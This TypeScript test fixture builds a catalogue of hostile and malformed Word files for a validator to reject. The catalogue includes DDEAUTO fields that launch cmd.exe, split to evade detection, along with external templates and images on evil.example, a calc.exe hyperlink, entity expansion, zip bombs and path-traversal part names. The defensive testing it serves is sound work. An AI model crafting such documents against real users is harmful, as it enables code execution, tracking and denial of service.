import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';

const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const declaration = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';

/** The parts of a Word file as texts; those that are no text as bytes. */
export type Parts = Record<string, string | Uint8Array>;

/** The least that Word opens. `body` is what stands in its text. */
export function wordParts(body = '<w:p><w:r><w:t>Rapport</w:t></w:r></w:p>'): Parts {
  return {
    '[Content_Types].xml': `${declaration}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`,
    '_rels/.rels': relationsOf(relation('officeDocument', 'word/document.xml')),
    'word/document.xml': `${declaration}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
  };
}

export function relation(type: string, target: string, mode = ''): string {
  const external = mode === '' ? '' : ` TargetMode="${mode}"`;
  return `<Relationship Id="r${target.length}" Type="${relations}/${type}" Target="${target}"${external}/>`;
}

export function relationsOf(...all: readonly string[]): string {
  return `${declaration}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.join('')}</Relationships>`;
}

export function zipped(parts: Parts): Uint8Array<ArrayBuffer> {
  const bytes = Object.entries(parts).map(([name, part]) => [
    name,
    typeof part === 'string' ? strToU8(part) : part,
  ]);
  return new Uint8Array(zipSync(Object.fromEntries(bytes) as Record<string, Uint8Array>));
}

/** A file with its parts changed, as somebody changes them in Word or by hand. */
export function edited(
  file: Uint8Array,
  edit: (parts: Record<string, string>) => Parts,
): Uint8Array<ArrayBuffer> {
  const before = unzipSync(file);
  const texts = Object.fromEntries(
    Object.entries(before).flatMap(([name, bytes]) =>
      /\.(xml|rels)$/.test(name) ? [[name, strFromU8(bytes)]] : [],
    ),
  );
  return zipped({ ...before, ...edit(texts) });
}

/** The file with words of its text replaced. Throws where they are not there. */
export function reworded(file: Uint8Array, before: string, after: string): Uint8Array<ArrayBuffer> {
  return edited(file, ({ 'word/document.xml': document = '' }) => {
    if (!document.includes(before)) throw new Error(`'${before}' is not in the document`);
    return { 'word/document.xml': document.replace(before, after) };
  });
}

const withRelation = (...made: Parameters<typeof relation>): Parts => ({
  ...wordParts(),
  'word/_rels/document.xml.rels': relationsOf(relation(...made)),
});
const withField = (...pieces: readonly string[]): Parts =>
  wordParts(
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces
      .map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`)
      .join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
  );
const withTypes = (from: string, to: string): Parts => {
  const parts = wordParts();
  return { ...parts, '[Content_Types].xml': String(parts['[Content_Types].xml']).replace(from, to) };
};

/** Files of somebody who means harm, or who sends the wrong thing, and what is the matter with each. */
export const hostileFiles: readonly { name: string; file: Uint8Array<ArrayBuffer>; problem: string }[] = [
  { name: 'a PDF that is called .docx', file: bytesOf('%PDF-1.7\n1 0 obj'), problem: 'noZip' },
  { name: 'an empty file', file: bytesOf(' '), problem: 'noZip' },
  {
    name: 'a Word file of before 2007, or one with a password',
    file: new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...Array<number>(512).fill(0)]),
    problem: 'locked',
  },
  {
    name: 'a spreadsheet',
    file: zipped(withTypes('wordprocessingml.document', 'spreadsheetml.sheet')),
    problem: 'noWord',
  },
  {
    name: 'a file with macros that is called .docx',
    file: zipped(withTypes(main, 'application/vnd.ms-word.document.macroEnabled.main+xml')),
    problem: 'macros',
  },
  {
    name: 'a file with a part of macros',
    file: zipped({ ...wordParts(), 'word/vbaProject.bin': new Uint8Array([1, 2, 3]) }),
    problem: 'macros',
  },
  { name: 'a template', file: zipped(withTypes('document.main', 'template.main')), problem: 'noWord' },
  {
    name: 'an object of another program',
    file: zipped({
      ...withRelation('oleObject', 'embeddings/oleObject1.bin'),
      'word/embeddings/oleObject1.bin': new Uint8Array([1]),
    }),
    problem: 'embedded',
  },
  {
    name: 'a worksheet in it',
    file: zipped({
      ...withRelation('package', 'embeddings/blad.xlsx'),
      'word/embeddings/blad.xlsx': new Uint8Array([1]),
    }),
    problem: 'embedded',
  },
  { name: 'a piece of a web page', file: zipped(withRelation('aFChunk', 'stuk.xml')), problem: 'embedded' },
  {
    name: 'a template elsewhere',
    file: zipped({
      ...wordParts(),
      'word/_rels/settings.xml.rels': relationsOf(
        relation('attachedTemplate', 'https://evil.example/t.dotm', 'External'),
      ),
    }),
    problem: 'template',
  },
  {
    name: 'a picture elsewhere',
    file: zipped(withRelation('image', 'http://evil.example/volg.png', 'External')),
    problem: 'elsewhere',
  },
  {
    name: 'a picture on a server of the network',
    file: zipped(withRelation('image', '\\\\evil.example\\volg.png')),
    problem: 'elsewhere',
  },
  {
    name: 'a link that runs something',
    file: zipped(withRelation('hyperlink', 'file:///C:/Windows/System32/calc.exe', 'External')),
    problem: 'elsewhere',
  },
  {
    name: 'a relation in other quotes, with a bracket in another attribute',
    file: zipped({
      ...wordParts(),
      'word/_rels/document.xml.rels': relationsOf(
        `<Relationship Id='>' Type='${relations}/image' TargetMode = 'External' Target='http://evil.example/&#118;'/>`,
      ),
    }),
    problem: 'elsewhere',
  },
  {
    name: 'a field that runs something',
    file: zipped(withField(' DDEAUTO c:\\\\cmd.exe "/k calc" ')),
    problem: 'fields',
  },
  {
    name: 'a field that runs something, cut in pieces',
    file: zipped(withField(' DD', 'EAU', '&#84;O c:\\\\cmd.exe ')),
    problem: 'fields',
  },
  {
    name: 'a field whose name is made by another',
    file: zipped(
      withField(
        ' ',
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE 68 68 69 ',
      ),
    ),
    problem: 'fields',
  },
  {
    name: 'a field that fetches a picture',
    file: zipped(withField(' INCLUDEPICTURE "http://evil.example/a.png" \\d ')),
    problem: 'fields',
  },
  {
    name: 'a simple field that fetches a text',
    file: zipped(wordParts('<w:p><w:fldSimple w:instr="INCLUDETEXT c:/geheim.docx"/></w:p>')),
    problem: 'fields',
  },
  {
    name: 'entities of its own',
    file: zipped({
      ...wordParts(),
      'word/document.xml': '<!DOCTYPE a [<!ENTITY x "xxxxxxxxxx"><!ENTITY y "&x;&x;&x;&x;">]><a>&y;</a>',
    }),
    problem: 'damaged',
  },
  {
    name: 'another encoding',
    file: zipped({ ...wordParts(), 'word/document.xml': Buffer.from('\ufeff<a/>', 'utf16le') }),
    problem: 'damaged',
  },
  {
    name: 'its text in a part that is called a picture',
    file: zipped(withTypes('/word/document.xml', '/word/document.png')),
    problem: 'damaged',
  },
  { name: 'half a file', file: zipped(wordParts()).slice(0, 300), problem: 'damaged' },
  { name: 'a part twice', file: withPartTwice(), problem: 'damaged' },
  {
    name: 'a part outside the file',
    file: renamedInside('word/document.xml', '../d/document.xml'),
    problem: 'damaged',
  },
  { name: 'more than it says it is', file: withOtherSize(16), problem: 'tooBig' },
  { name: 'a gigabyte of nothing', file: withOtherSize(1024 ** 3), problem: 'tooBig' },
  {
    name: 'a bomb',
    file: zipped({ ...wordParts(), 'word/bom.xml': new Uint8Array(128 * 1024 * 1024) }),
    problem: 'tooBig',
  },
  {
    name: 'thousands of parts',
    file: zipped({
      ...wordParts(),
      ...Object.fromEntries(Array.from({ length: 2_001 }, (_, at) => [`word/${at}.xml`, ''])),
    }),
    problem: 'tooBig',
  },
];

function bytesOf(text: string): Uint8Array<ArrayBuffer> {
  return new Uint8Array(strToU8(text));
}

/** Two entries of one name: what one reader takes another does not. */
function withPartTwice(): Uint8Array<ArrayBuffer> {
  return renamedInside('word/document.bml', 'word/document.xml', { 'word/document.bml': '<a/>' });
}

/** The name of a part replaced by one of the same length, wherever it stands in the file. */
function renamedInside(before: string, after: string, more: Parts = {}): Uint8Array<ArrayBuffer> {
  if (before.length !== after.length) throw new Error('the names differ in length');
  const file = Buffer.from(zipped({ ...wordParts(), ...more }));
  for (let at = file.indexOf(before); at >= 0; at = file.indexOf(before, at + 1)) {
    // Only the names: what is packed holds none of them as it is.
    file.write(after, at, 'latin1');
  }
  return new Uint8Array(file);
}

/** What the directory says of how large the text is, changed. */
function withOtherSize(bytes: number): Uint8Array<ArrayBuffer> {
  const file = Buffer.from(zipped(wordParts(`<w:p>${'a'.repeat(100_000)}</w:p>`)));
  const name = 'word/document.xml';
  const at = file.lastIndexOf(name) - 46;
  if (file.readUInt32LE(at) !== 0x02014b50) throw new Error('that is no entry of the directory');
  file.writeUInt32LE(bytes, at + 24);
  return new Uint8Array(file);
}
